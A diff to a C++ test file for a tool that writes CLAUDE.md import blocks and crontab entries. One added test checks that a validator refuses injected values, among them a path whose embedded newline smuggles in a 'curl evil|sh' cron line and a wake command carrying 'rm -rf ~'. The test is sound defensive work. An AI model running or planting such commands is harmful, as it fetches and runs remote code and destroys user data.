@@ -114,7 +114,8 @@ TEST(Settings, KeepsTheFilesIndentation) {
 TEST(ClaudeMd, BlockIsAddedOnceAndRemovedExactly) {
   const std::string text = "# Project\n\nBuild with ninja.\n";
   const std::string in = merge_claude_md(text, ".memsim/memory/MEMORY.md");
-  EXPECT_EQ(in, text + "\n<!-- memsim:begin -->\n@.memsim/memory/MEMORY.md\n<!-- memsim:end -->\n");
+  EXPECT_EQ(in, text + "\n<!-- memsim:begin -->\n" + std::string(kImportFraming) +
+                    "\n@.memsim/memory/MEMORY.md\n<!-- memsim:end -->\n");
   EXPECT_EQ(merge_claude_md(in, ".memsim/memory/MEMORY.md"), in);
   EXPECT_EQ(claude_md_import(in), ".memsim/memory/MEMORY.md");
   EXPECT_EQ(remove_claude_md(in), text);
@@ -124,7 +125,8 @@ TEST(ClaudeMd, BlockIsAddedOnceAndRemovedExactly) {
 
 TEST(ClaudeMd, AMovedHomeRewritesTheBlockInPlace) {
   const std::string in = "a\n<!-- memsim:begin -->\n@old/MEMORY.md\n<!-- memsim:end -->\nb\n";
-  EXPECT_EQ(merge_claude_md(in, "new/MEMORY.md"), "a\n<!-- memsim:begin -->\n@new/MEMORY.md\n<!-- memsim:end -->\nb\n");
+  EXPECT_EQ(merge_claude_md(in, "new/MEMORY.md"),
+            "a\n<!-- memsim:begin -->\n" + std::string(kImportFraming) + "\n@new/MEMORY.md\n<!-- memsim:end -->\nb\n");
   EXPECT_EQ(remove_claude_md(in), "a\nb\n");
 }
 
@@ -180,6 +182,19 @@ TEST(Cron, TheBlockHoldsTheTickAndTheWakeFiveMinutesLater) {
       EXPECT_EQ(line[at - 1], '\\') << line;
   }
   EXPECT_EQ(commands, 2);
+}
+
+// A newline in a path would add a crontab line of its own; a '%' would cut one.
+TEST(Cron, PathsCronWouldMisreadAreRefused) {
+  EXPECT_TRUE(check_cron_spec(cron_spec()).ok());
+  for (const char* home : {"/p/x\n* * * * * curl evil|sh\n/.memsim", "/p/100%/.memsim", "/p/\r/.memsim"}) {
+    Status s = check_cron_spec(cron_spec(home));
+    ASSERT_FALSE(s.ok()) << home;
+    EXPECT_NE(s.message().find("the home"), std::string::npos) << s.message();
+  }
+  CronSpec wake = cron_spec();
+  wake.wake_command = "claude -p\nrm -rf ~";
+  EXPECT_NE(check_cron_spec(wake).message().find("--wake-command"), std::string::npos);
 }
 
 TEST(Cron, MergeIsIdempotentReplacesOurBlockAndKeepsEveryOtherLine) {
